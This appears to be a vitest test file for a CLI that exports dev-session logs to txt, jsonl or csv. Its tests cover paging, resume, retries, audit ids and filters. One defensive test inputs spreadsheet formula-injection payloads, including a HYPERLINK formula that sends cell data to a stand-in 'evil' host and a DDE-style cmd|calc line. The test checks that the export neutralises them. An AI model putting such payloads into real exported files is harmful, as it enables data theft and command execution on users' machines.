import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it, onTestFinished } from 'vitest'
import { startTestApi } from '../../host-stub/dev-api/testing/start-test-api.ts'
import { createSystemClock } from '../../remote-dev-hotload/kernel/index.ts'
import { readExportOptions } from './export/options.ts'
import { runExportLogs } from './export/run.ts'

const root = fileURLToPath(new URL('../..', import.meta.url))
const START = Date.parse('2026-01-05T10:00:00.000Z')
const at = (minute: number) => new Date(START + minute * 60_000).toISOString()

interface Line {
  message: string
  level?: string
  ts?: string
}
const numbered = (count: number, from = 1): Line[] =>
  Array.from({ length: count }, (_, index) => ({ message: `line ${from + index}`, ts: at(from + index) }))
const messages = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { kind: string; message?: string })
    .flatMap(({ kind, message }) => (kind === 'line' ? [message] : []))

/** A Dev API with a session of some lines, and the command beside it. */
async function setting(lines: readonly Line[], role: 'ops' | 'viewer' = 'ops') {
  const api = await startTestApi({ tokenTtlS: 86_400 })
  const ops = await api.signIn('ops')
  const person = role === 'ops' ? ops : await api.signIn(role)
  const cli = await ops.register('com.test.export')
  if (lines.length > 0) await cli.logs(lines)
  const folder = mkdtempSync(join(tmpdir(), 'dev-hotload-export-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const out = join(folder, 'log.out')
  const said: string[] = []
  const requests: string[] = []
  const waits: number[] = []
  const token = person.headers.authorization.replace('Bearer ', '')

  async function run(
    args: readonly string[] = [],
    answerFor: (url: string, count: number) => Response | null | Promise<null> = () => null,
    end = new AbortController(),
  ) {
    said.length = 0
    let count = 0
    const options = readExportOptions(
      ['--api', api.base, '--session', cli.sessionId, '--out', out, '--page-size', '10', ...args],
      {},
    )
    return runExportLogs(options, {
      fetch: async (url, init) => {
        requests.push(String(url))
        return (await answerFor(String(url), ++count)) ?? fetch(url, init)
      },
      clock: {
        ...createSystemClock(),
        now: () => START + 3_600_000,
        // Waits are told and not waited; the time limit of a request is not reached.
        after(ms, then) {
          if (ms >= 15_000) return () => {}
          waits.push(ms)
          queueMicrotask(then)
          return () => {}
        },
      },
      random: () => 0.5,
      uuid: () => crypto.randomUUID(),
      env: { DH_TOKEN: token },
      stdout: process.stdout,
      stderr: { write: (text) => said.push(text) },
      signal: end.signal,
    })
  }

  const text = () => readFileSync(out, 'utf8')
  const audits = async () => {
    const query = '{ devHotloadAudit { items { auditId action result details } } }'
    const { data } = await ops.graphql(query)
    const { items } = (data as { devHotloadAudit: { items: { auditId: string; action: string }[] } }).devHotloadAudit
    return items.filter(({ action }) => action === 'logs.export')
  }
  return { api, ops, cli, folder, out, said, requests, waits, run, text, audits }
}

describe('devhotload:export-logs', () => {
  it('writes every line once, oldest first, in each form, under its audit id', async () => {
    for (const format of ['txt', 'jsonl', 'csv']) {
      const { run, text, out, said, audits, cli } = await setting(numbered(37))
      expect(await run(['--format', format])).toBe(0)
      const [audit] = await audits()
      expect(text().match(/line \d+/g)).toEqual(numbered(37).map(({ message }) => message))
      for (const word of [audit!.auditId, cli.sessionId, 'complete', '37']) expect(text()).toContain(word)
      expect(said.join('')).toContain(`37 lines exported to ${out} · audit id ${audit!.auditId}`)
      expect(existsSync(`${out}.part.json`)).toBe(false)
    }
  })

  it('handles logs of no line, of one, and of exactly a page', async () => {
    for (const count of [0, 1, 2, 10, 11]) {
      const { run, text } = await setting(numbered(count))
      expect(await run()).toBe(0)
      expect(messages(text())).toEqual(numbered(count).map(({ message }) => message))
    }
  })

  it('ends where the log ended when it began', async () => {
    const { run, text, cli } = await setting(numbered(25))
    const late = async (url: string, count: number) => {
      if (url.includes('graphql') && count === 5) await cli.logs(numbered(30, 26))
      return null
    }
    expect(await run([], late)).toBe(0)
    expect(messages(text())).toEqual(numbered(25).map(({ message }) => message))
  })

  it('goes on where it was broken off, even in the middle of a line, under the same audit id', async () => {
    const { run, text, out, said, audits } = await setting(numbered(95))
    const away = (_: string, count: number) => (count > 16 ? new Response('', { status: 404 }) : null)
    expect(await run([], away)).toBe(1)
    expect(said.join('')).toMatch(/Broken off after \d+ lines\. .*--resume/)
    const before = messages(text()).length
    expect(before).toBeGreaterThan(0)
    expect(before).toBeLessThan(95)
    // What a killed process may leave behind.
    writeFileSync(out, `${text()}{"kind":"line","mess`)

    expect(await run(['--resume', '--level', 'warn'])).toBe(2)
    expect(await run(['--resume'])).toBe(0)
    expect(messages(text())).toEqual(numbered(95).map(({ message }) => message))
    expect(await audits()).toHaveLength(1)
    expect(await run(['--resume'])).toBe(2)
    expect(said.join('')).toContain('nothing to go on with')
  })

  it('stops after a whole page when it is interrupted', async () => {
    const { run, text } = await setting(numbered(60))
    const end = new AbortController()
    const interrupt = (_: string, count: number) => (count === 12 && end.abort(), null)
    expect(await run([], interrupt, end)).toBe(130)
    expect(text().endsWith('\n')).toBe(true)
    expect(await run(['--resume'])).toBe(0)
    expect(messages(text())).toHaveLength(60)
  })

  it('waits as long as the server asks, and tries again after a failure', async () => {
    const { run, text, waits } = await setting(numbered(12))
    const busy = (_: string, count: number) => {
      if (count === 2) return new Response('', { status: 429, headers: { 'retry-after': '7' } })
      return count === 4 || count === 5 ? new Response('', { status: 503 }) : null
    }
    expect(await run([], busy)).toBe(0)
    expect(waits[0]).toBe(7_000)
    expect(waits).toHaveLength(3)
    expect(messages(text())).toHaveLength(12)
  })

  it('reads and writes nothing when the export is refused or cannot be recorded', async () => {
    const viewer = await setting(numbered(3), 'viewer')
    expect(await viewer.run()).toBe(3)
    expect(viewer.said.join('')).toMatch(/^Nothing was exported.*not allowed.*DH_API_403/)
    expect(viewer.requests).toEqual([`${viewer.api.base}/internal/dev/plugins/audit`])

    const broken = await setting(numbered(3))
    expect(await broken.run([], () => new Response('', { status: 500 }))).toBe(3)
    const mute = await setting(numbered(3))
    expect(await mute.run([], () => Response.json({ data: {}, code: 0 }))).toBe(3)
    for (const { folder } of [viewer, broken, mute]) expect(readdirSync(folder)).toEqual([])
  })

  it('takes lines by time, by level, by text and since the newest reload', async () => {
    const { run, text, out } = await setting([
      ...numbered(40),
      { message: 'bad thing', level: 'error', ts: at(41) },
      { message: 'odd thing', level: 'warn', ts: at(42) },
    ])
    const taken = async (...args: string[]) => {
      rmSync(out, { force: true })
      expect(await run(args)).toBe(0)
      return messages(text())
    }
    expect(await taken('--level', 'warn')).toEqual(['bad thing', 'odd thing'])
    expect(await taken('--search', 'LINE 3')).toEqual(['line 3', ...numbered(10, 30).map(({ message }) => message)])
    expect(await taken('--since', at(38))).toEqual(['line 38', 'line 39', 'line 40', 'bad thing', 'odd thing'])
    // It is eleven o'clock.
    expect(await taken('--since', '19m')).toEqual(['bad thing', 'odd thing'])
    expect(text()).toContain(`from=${at(41)}`)
  })

  it('begins with the newest reload where it is asked to', async () => {
    const { run, text, cli, api } = await setting([...numbered(30, -40), { message: 'just before', ts: at(0) }])
    api.clock.advance(1_000)
    await cli.reload({ sequence: 1, success: true })
    await cli.logs([{ message: 'after the reload', ts: at(1) }])
    expect(await run(['--since', 'reload'])).toBe(0)
    expect(messages(text())).toEqual(['after the reload'])
    expect(text()).toMatch(/"kind":"reload".*\n.*after the reload/)
  })

  it('exports several sessions into one file', async () => {
    const { run, text, ops } = await setting(numbered(12))
    const other = await ops.register('com.test.export-two')
    await other.logs([{ message: 'of the other' }])
    expect(await run(['--session', other.sessionId])).toBe(0)
    expect(messages(text())).toEqual([...numbered(12).map(({ message }) => message), 'of the other'])
  })

  it('makes no formula of a hostile line and masks its secrets', async () => {
    const { run, text } = await setting([
      { message: '=HYPERLINK("http://evil/?"&A1,"x")' },
      { message: '\t=1+1' },
      { message: 'a;＝cmd|calc' },
      { message: 'token ghp_abcdefghijklmnopqrstuvwxyz0123456789' },
    ])
    expect(await run(['--format', 'csv'])).toBe(0)
    expect(text()).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`)
    expect(text()).not.toMatch(/(^|[,;\t]|")[=＝]/m)
    expect(text()).toContain('[masked: github-token]')
    expect(text()).not.toContain('ghp_abc')
  })

  it('overwrites no file', async () => {
    const { run, out, said } = await setting(numbered(1))
    writeFileSync(out, 'mine')
    expect(await run()).toBe(2)
    expect(said.join('')).toContain('is there already')
    expect(readFileSync(out, 'utf8')).toBe('mine')
  })
})

describe('the command line', { timeout: 30_000 }, () => {
  const run = (args: readonly string[], env: NodeJS.ProcessEnv = {}) =>
    spawnSync(process.execPath, ['--import', 'tsx', 'scripts/devhotload/export-logs.ts', ...args], {
      cwd: root,
      encoding: 'utf8',
      env: { ...process.env, DH_TOKEN: '', ...env },
    })

  it('helps, and says in one sentence what it does not understand', () => {
    const help = run(['--help'])
    expect(help.status).toBe(0)
    for (const word of ['--since', '--resume', 'DH_TOKEN', 'Exit codes']) expect(help.stdout).toContain(word)
    expect(run([])).toMatchObject({ status: 2, stderr: expect.stringContaining('--session') })
    const strange = run(['--session', 's', '--since', 'yesterday'])
    expect(strange).toMatchObject({ status: 2, stderr: expect.stringContaining('15m or 2h') })
    expect(run(['--session', 's'])).toMatchObject({ status: 2, stderr: expect.stringContaining('DH_TOKEN') })
  })
})
